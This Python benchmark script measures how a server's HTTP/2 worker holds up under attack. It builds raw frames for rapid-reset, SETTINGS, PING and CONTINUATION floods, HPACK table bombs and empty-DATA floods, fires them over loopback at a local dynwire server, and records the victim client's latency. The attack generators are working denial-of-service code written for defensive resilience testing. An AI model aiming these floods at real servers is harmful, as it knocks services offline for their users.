#!/usr/bin/env python3
"""What does an attack on an http worker cost its other callers?

One worker, one victim (a blocking dynwire client on a connection of its own, one call of 1 KiB after the other), one attacker
that connects again as fast as it is closed. The server has the first core; victim and attacker share the last one, the attacker
with less priority. Between any two attacks the victim calls alone (``quiet``): the ratio p99/quiet compares an attack with the
quiet time before and after it, and is the median over rounds. What sharing a core costs by itself shows the row ``spin``, whose
attacker burns its core and sends nothing.

    python benchmarks/attacks.py                               every attack, 3 rounds of 2 s each
    python benchmarks/attacks.py --seconds 1 --json out.json   and everything that was measured, as JSON
    python benchmarks/attacks.py --only 'reset|ping'
    python benchmarks/attacks.py --check                       exit status 1 if an attack raises the victim's p99 by over 10 %

Everything stays on loopback. An attacker ends after its seconds, after --connections, or when its standard input closes.
"""

from __future__ import annotations

import argparse
import asyncio
import functools
import itertools
import json
import os
import re
import select
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve()
TICKS = os.sysconf("SC_CLK_TCK")
WARM_UP_S = 0.3
MOST_RATIO = 1.1
"""of the victim's p99 to its p99 without an attack: what is promised"""
ENDPOINT = "bench.attack.echo"

# Frames (RFC 9113 section 6), as an attacker makes them -----------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(type_: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((type_, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes, first: int = 0) -> bytes:
    """A field without Huffman coding; ``first`` 0x40: into the dynamic table (RFC 7541 6.2.1)."""
    size = bytes((len(value),)) if len(value) < 127 else b"\x7f" + _varint(len(value) - 127)
    return bytes((first, len(name))) + name + size + value


def _varint(value: int) -> bytes:
    out = b""
    while value >= 128:
        out += bytes((value & 127 | 128,))
        value >>= 7
    return out + bytes((value,))


def head(endpoint: str) -> bytes:
    path = f"/v1/rpc/{endpoint.replace('.', '/')}".encode()
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost")]
    fields += [(b"content-type", b"application/octet-stream"), (b"accept", b"application/vnd.dynwire.items")]
    return b"".join(literal(name, value) for name, value in fields)


WAIT, ECHO = head("bench.attack.wait"), head(ENDPOINT)


def bomb(references: int) -> bytes:
    """An entry that fills the dynamic table, named again by one byte each time: 4096 to 1."""
    return literal(b"x", b"a" * (4096 - 32 - 1), 0x40) + b"\xbe" * references


@functools.cache  # an attacker that makes its frames while it sends them would be the bottleneck
def resets() -> list[bytes]:
    def one(sid: int) -> bytes:
        return frame(HEADERS, END_STREAM | END_HEADERS, sid, WAIT) + frame(RST_STREAM, 0, sid, struct.pack(">I", 8))

    return [b"".join(one(sid) for sid in range(first, first + 2000, 2)) for first in range(1, 40_001, 2000)]


@functools.cache
def bombs(references: int) -> list[bytes]:
    block = ECHO + bomb(references)
    return [frame(HEADERS, END_STREAM | END_HEADERS, sid, block) for sid in range(1, 20_001, 2)]


def flood(before: bytes, piece: bytes) -> Iterator[bytes]:
    yield before
    yield from itertools.repeat(piece * (65536 // len(piece)))


ATTACKS: dict[str, Callable[[], Iterable[bytes]]] = {
    "rapid-reset": resets,
    "settings-flood": lambda: flood(b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    "ping-flood": lambda: flood(b"", frame(PING, 0, 0, bytes(8))),
    "continuation-flood": lambda: flood(frame(HEADERS, END_STREAM, 1, ECHO), frame(CONTINUATION, 0, 1)),
    "hpack-bomb": lambda: bombs(12_000),
    "hpack-bomb-431": lambda: bombs(40),
    "empty-data-flood": lambda: flood(frame(HEADERS, END_HEADERS, 1, ECHO), frame(DATA, 0, 1)),
}
"""Names, and what is sent on one connection until the server closes it. hpack-bomb-431 costs its streams only, so it goes on."""
PHASES = ("quiet", "spin", *ATTACKS)

# The processes ----------------------------------------------------------------------------------------------------------------


def pin(core: int) -> None:
    cores = sorted(os.sched_getaffinity(0))
    os.sched_setaffinity(0, {cores[core]})


def say(value: Any) -> None:
    os.write(1, (json.dumps(value) + "\n").encode())


async def serve() -> None:
    import dynwire

    async def echo(request: dynwire.Payload) -> dynwire.Payload:
        return request

    async def wait(request: Any) -> None:
        await asyncio.get_running_loop().create_future()

    manager = dynwire.AsyncNetworkManager(request_plane="http", http_host="127.0.0.1", http_port=0)
    service = await manager.endpoint(ENDPOINT).serve(echo)
    await manager.endpoint("bench.attack.wait").serve(wait)
    say(int(service.instance.address.rpartition(":")[2].partition("/")[0]))
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    await manager.close()


def be_victim() -> None:
    """Measures for as many seconds as each line of standard input says."""
    import dynwire

    with dynwire.NetworkManager(request_plane="http") as manager:
        client = manager.endpoint(ENDPOINT).client()
        client.wait_for_instances(1, timeout=20)
        payload = os.urandom(1024)
        for _ in range(500):
            client.call(payload, timeout=10)
        say("ready")
        for line in sys.stdin:
            end = time.perf_counter() + float(line)
            times, failed = [], 0
            while (started := time.perf_counter()) < end:
                try:
                    client.call(payload, timeout=10)
                except dynwire.DynwireError:
                    failed += 1
                times.append((time.perf_counter() - started) * 1e6)
            cuts = statistics.quantiles(times, n=1000, method="inclusive")
            say({"calls": len(times), "failed": failed, "p50": cuts[499], "p99": cuts[989], "p999": cuts[998], "max": max(times)})


class Attacker:
    """Connects, sends, and connects again."""

    def __init__(self, name: str, port: int, seconds: float, connections: int) -> None:
        self.name, self.port, self.most = name, port, connections
        self.seconds, self.end = seconds, 0.0
        self.connections = self.sent = 0
        self.last = b""

    def over(self) -> bool:
        return time.monotonic() > self.end or bool(select.select([sys.stdin], [], [], 0)[0])

    def run(self) -> None:
        if self.name in ATTACKS:
            next(iter(ATTACKS[self.name]()))  # made before the attack begins
        self.end = time.monotonic() + self.seconds
        say("go")
        while not self.over() and self.connections < self.most:
            if self.name == "spin":
                sum(range(10_000))
                continue
            self.connections += 1
            try:
                with socket.create_connection(("127.0.0.1", self.port), 5) as sock:
                    sock.setblocking(False)
                    self.attack(sock)
            except (ConnectionError, TimeoutError):
                continue
        words = re.findall(rb"[a-z]+(?:_[a-z]+)+", self.last)
        say({"connections": self.connections, "sent": self.sent, "said": words[-1].decode() if words else ""})

    def attack(self, sock: socket.socket) -> None:
        """Until the server has closed the connection; what it sends is read and dropped."""
        pieces = itertools.chain([PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)], ATTACKS[self.name]())
        for piece in pieces:
            view = memoryview(piece)
            while view:
                if self.over():
                    return
                readable, writable, _ = select.select([sock], [sock], [], 0.1)
                if readable:
                    data = sock.recv(262144)
                    if not data:
                        return
                    self.last = (self.last + data)[-4096:]
                if writable:
                    done = sock.send(view)
                    view, self.sent = view[done:], self.sent + done


# The measurement --------------------------------------------------------------------------------------------------------------


class Process:
    """This file in a role of its own."""

    def __init__(self, core: int, *arguments: object) -> None:
        command = [sys.executable, str(HERE), "--role", str(core), *map(str, arguments)]
        self.process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)

    def answer(self) -> Any:
        assert self.process.stdout is not None
        line = self.process.stdout.readline()
        if not line:
            raise SystemExit("a process of the benchmark has ended early")
        return json.loads(line)

    def tell(self, text: str) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write(text + "\n")
        self.process.stdin.flush()

    def cpu(self) -> float:
        """seconds so far"""
        rest = Path(f"/proc/{self.process.pid}/stat").read_text().rpartition(")")[2].split()
        return (int(rest[11]) + int(rest[12])) / TICKS

    def mib(self, name: str) -> float:
        found = re.search(rf"{name}:\s+(\d+)", Path(f"/proc/{self.process.pid}/status").read_text())
        assert found is not None
        return int(found[1]) / 1024

    def reset_peak(self) -> None:
        Path(f"/proc/{self.process.pid}/clear_refs").write_text("5")

    def close(self) -> None:
        for pipe in (self.process.stdin, self.process.stdout):
            if pipe is not None:
                pipe.close()
        try:
            self.process.wait(5)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()


def measure(name: str, server: Process, victim: Process, port: int, args: argparse.Namespace) -> dict[str, Any]:
    attacker = None
    if name != "quiet":
        attacker = Process(-1, "attack", name, port, args.seconds + 2 * WARM_UP_S, args.connections)
        attacker.answer()
        time.sleep(WARM_UP_S)
    try:
        server.reset_peak()
        cpu, rss, started = server.cpu(), server.mib("VmRSS"), time.monotonic()
        victim.tell(str(args.seconds))
        found: dict[str, Any] = {"attack": name, **victim.answer()}
        seconds = time.monotonic() - started
        found.update(calls_per_s=found["calls"] / seconds, server_cpu=(server.cpu() - cpu) / seconds)
        found["server_grown_mib"] = server.mib("VmHWM") - rss
        if attacker is not None:
            found.update(attacker.answer())
    finally:
        if attacker is not None:
            attacker.close()
    return found


def summed_up(phases: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """A row per attack, of its rounds: medians, and what happened in all of them together."""
    quiet = [row["p99"] for row in phases if row["attack"] == "quiet"]
    met: dict[str, list[dict[str, Any]]] = {}
    before = itertools.pairwise(quiet)
    for row in phases:
        if row["attack"] != "quiet":
            around = statistics.fmean(next(before))
            row["ratio"] = row["p99"] / around
        met.setdefault(row["attack"], []).append(row)
    out = []
    for rows in met.values():
        row = dict(rows[-1])
        for name in ("calls_per_s", "p50", "p99", "server_cpu", "ratio"):
            if name in row:
                row[name] = statistics.median(one[name] for one in rows)
        for name in ("max", "server_grown_mib"):
            row[name] = max(one[name] for one in rows)
        for name in ("failed", "connections", "sent"):
            if name in row:
                row[name] = sum(one[name] for one in rows)
        if "ratio" in row:
            row["ratios"] = [round(one["ratio"], 3) for one in rows]
        out.append(row)
    return out


def show(rows: list[dict[str, Any]]) -> None:
    names = "attack calls/s p50_us p99_us p99/quiet (range) max_ms failed server_CPU +MiB connections MiB_sent closed_with"
    print(f"| {' | '.join(name.replace('_', ' ') for name in names.split())} |")
    print("|---|" + "---:|" * 11 + "---|")
    for row in rows:
        attacker = (f"{row['connections']}", f"{row['sent'] / 2**20:.1f}", row["said"]) if "sent" in row else ("-", "-", "")
        ratios = row.get("ratios")
        cells = (
            row["attack"],
            f"{row['calls_per_s']:.0f}",
            f"{row['p50']:.0f}",
            f"{row['p99']:.0f}",
            f"{row['ratio']:.2f}" if ratios else "-",
            f"{min(ratios):.2f}-{max(ratios):.2f}" if ratios else "-",
            f"{row['max'] / 1000:.1f}",
            f"{row['failed']}",
            f"{row['server_cpu']:.0%}",
            f"{row['server_grown_mib']:.1f}",
            *attacker,
        )
        print(f"| {' | '.join(cells)} |")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=2.0, help="of each measurement (default 2)")
    parser.add_argument("--rounds", type=int, default=3, help="of every attack (default 3)")
    parser.add_argument("--connections", type=int, default=20_000, help="of one attacker, at most (default 20000)")
    parser.add_argument("--only", default="", metavar="REGEX", help="attacks whose names match; quiet and spin always run")
    parser.add_argument("--check", action="store_true", help="exit status 1 if an attack raises the victim's p99 by over 10 %%")
    parser.add_argument("--json", type=Path, metavar="FILE", help="write what was measured")
    args = parser.parse_args()
    chosen = [name for name in PHASES if name != "quiet" and (name not in ATTACKS or re.search(args.only, name))]
    with tempfile.TemporaryDirectory() as directory:
        os.environ["DYN_FILE_KV"] = directory
        started: list[Process] = []
        try:
            started.append(server := Process(0, "serve"))
            port = server.answer()
            started.append(victim := Process(-1, "victim"))
            victim.answer()
            order = ["quiet", *itertools.chain.from_iterable((name, "quiet") for name in chosen * args.rounds)]
            phases = [measure(name, server, victim, port, args) for name in order]
        finally:
            for process in reversed(started):
                process.close()
    rows = summed_up(phases)
    show(rows)
    if args.json:
        report = {"seconds": args.seconds, "rounds": args.rounds, "cores": os.cpu_count(), "rows": rows, "phases": phases}
        args.json.write_text(json.dumps(report, indent=1) + "\n")
    raised = [row["attack"] for row in rows if row["attack"] in ATTACKS and row["ratio"] > MOST_RATIO]
    if raised:
        print(f"p99 rose by more than 10 %: {', '.join(raised)}", file=sys.stderr)
    return 1 if raised and args.check else 0


def role(core: str, name: str, *rest: str) -> None:
    pin(int(core))
    if name == "serve":
        asyncio.run(serve())
    elif name == "victim":
        be_victim()
    else:
        attack, port, seconds, connections = rest
        os.nice(10)
        Attacker(attack, int(port), float(seconds), int(connections)).run()


if __name__ == "__main__":
    if sys.argv[1:2] == ["--role"]:
        role(*sys.argv[2:])
    else:
        sys.exit(main())
